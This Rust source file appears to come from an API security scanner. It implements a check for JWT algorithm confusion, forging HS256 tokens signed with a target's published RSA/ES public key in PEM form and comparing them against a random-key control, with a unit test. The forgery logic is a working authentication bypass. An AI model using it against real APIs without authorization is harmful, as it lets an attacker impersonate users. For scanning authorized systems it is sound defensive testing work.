//! Algorithm confusion: an RS256/ES256 API that accepts HS256 tokens
//! signed with its own public key.
//!
//! A verifier that calls `verify(token, key)` and lets the token's header
//! choose the algorithm uses the RSA public key — published in a JWKS for
//! everyone — as an HMAC secret when the header says `HS256`. The attacker
//! signs any claims with the public key's PEM text and the API takes them
//! as genuine (old PyJWT, python-jose and several Node libraries did this).
//!
//! Rampart builds the PEM forms libraries use from the keys the API
//! publishes and signs the identity's claims with each under HS256, where
//! an HS256 token signed with a random key is refused.

use async_trait::async_trait;
use serde_json::{Map, Value};

use super::{jwt_credentials, report_forgery, Forgery, Told};
use crate::checks::{Check, CheckMeta, Mode, Outcome, RunsOn, Skip, TargetContext};
use crate::facts::Needs;
use crate::finding::{Category, Severity};
use crate::tokens::crack::Digest;
use crate::tokens::jwt::{self, Jwt, Signature};

pub struct AlgConfusion;

pub static META: CheckMeta = CheckMeta {
    check: &AlgConfusion,
    id: "token.jwt-alg-confusion",
    category: Category::Authentication,
    severity: Severity::Critical,
    summary: "RS/ES-signed JWTs: HS256 tokens signed with the published public key accepted",
    mode: Mode::Active,
    runs_on: RunsOn::Target,
    min_identities: 1,
    needs: Needs::TOKENS.and(Needs::IDENTITIES),
};

#[async_trait]
impl Check for AlgConfusion {
    async fn probe_target(&self, ctx: &TargetContext<'_>) -> Outcome {
        let credentials: Vec<_> = jwt_credentials(ctx.facts)?
            .into_iter()
            .filter(|c| c.jwt().is_some_and(|j| j.is_asymmetric()))
            .collect();
        if credentials.is_empty() {
            return Err(Skip::NotApplicable(
                "no JWT signed with a public-key algorithm",
            ));
        }
        if ctx.facts.tokens.keys.is_empty() {
            return Err(Skip::Missing("no public key published (JWKS or PEM)"));
        }
        let keys = &ctx.facts.tokens.keys;
        // The control: HS256 with a random key.
        let random = ctx.engine.buster().next_token();
        let hs256 = |token: &Jwt| {
            let mut header = token.header.clone();
            header.insert("alg".into(), Value::from("HS256"));
            header
        };
        let control = |token: &Jwt, claims: &Map<String, Value>| {
            jwt::encode(
                &hs256(token),
                claims,
                Signature::Hmac(Digest::Sha256, random.as_bytes()),
            )
        };
        let forgeries = |token: &Jwt| {
            // The key the token names first, then the others.
            let mut ordered: Vec<_> = keys.iter().collect();
            ordered.sort_by_key(|k| k.kid.as_deref() != token.kid());
            let mut forgeries = Vec::new();
            for key in ordered.into_iter().take(4) {
                for secret in key.hmac_secrets() {
                    let form = if secret.ends_with(b"\n") {
                        "with its final newline"
                    } else {
                        "without a final newline"
                    };
                    let header = hs256(token);
                    forgeries.push(Forgery {
                        how: format!("{}|{form}", key.source),
                        make: Box::new(move |claims: &Map<String, Value>| {
                            Some(jwt::encode(
                                &header,
                                claims,
                                Signature::Hmac(Digest::Sha256, &secret),
                            ))
                        }),
                    });
                }
            }
            forgeries
        };
        report_forgery(ctx, credentials, control, forgeries, |forged| {
                let (source, form) = forged.how.split_once('|').unwrap_or((&forged.how, ""));
                let alg = forged.alg();
            Told {
                step: format!(
                    "HS256 over the same claims, keyed with the public key's PEM text ({form}), gets {}'s data",
                    forged.credential.identity
                ),
                title: format!("Algorithm confusion: HS256 tokens signed with the public key from {source} accepted"),
                description: format!(
                    "The identities' tokens are {alg}-signed, and the API publishes its public key ({source}). A token \
                     with `\"alg\": \"HS256\"` whose HMAC key is that public key's PEM text ({form}) is accepted \
                     where one signed with a random key is refused: the verifier lets the token choose the \
                     algorithm. Anyone can sign any claims with the public key.{}",
                    forged.impact_words("signed the same way")
                ),
                key: "alg-confusion".into(),
            }
        })
        .await
    }
}

#[cfg(test)]
mod tests {
    use serde_json::json;

    use super::*;
    use crate::tokens::crack::{verify, Scheme};
    use crate::tokens::jwt::Jwt;
    use crate::tokens::keys::PublicKey;

    #[test]
    fn a_token_keyed_with_the_published_pem_verifies_as_a_confused_server_checks_it() {
        // A confused verifier: HMAC-SHA256 keyed with the PEM text as
        // Python's cryptography writes it (final newline included).
        let jwk = json!({"kty": "RSA", "kid": "k", "n": "wUy-yXELfCx4l_eEGz6r9QB3EolGxpUM5O2gTkutQyczRttLnu5hNtoGRYxmyipVKOqxhIERqKg7Mv2VqHO_p70-0KXqqaYq8q8snc-EDzTzpp8buJTSUh_0Z0HbhbQMo_iB6E0BpDN_MelClFsbwYdbGINHm1gVK3v4SO8q6fOd8CKNwMkiLTHaJS7y2i3fjDXrdCXXJ3t5L9zgS5LV0nAl5gAYrlemccm1nxd7NcIkE7icG0HhBNMUo_iBHfylKl4DKr7QLp9LsBIeQSiuQFYTukz1wiYr8hImbo3MME1ABYENE3UMUbSRLTs6CKVA3jBswBfRmYCFuT2MDkYwtQ", "e": "AQAB"});
        let key = PublicKey::from_jwk(&jwk, "jwks").unwrap();
        let server_key = crate::tokens::keys::pem("PUBLIC KEY", &key.spki);
        let header = json!({"alg": "HS256", "typ": "JWT", "kid": "k"});
        let claims = json!({"sub": "2"});
        let (Some(header), Some(claims)) = (header.as_object(), claims.as_object()) else {
            panic!("objects")
        };
        let accepted = key.hmac_secrets().iter().any(|secret| {
            let forged = Jwt::parse(&jwt::encode(
                header,
                claims,
                Signature::Hmac(Digest::Sha256, secret),
            ))
            .unwrap();
            verify(
                &Scheme::Hmac(Digest::Sha256),
                server_key.as_bytes(),
                forged.signing_input().as_bytes(),
                &forged.signature,
            )
        });
        assert!(accepted, "one of the forms is the server's PEM");
    }
}
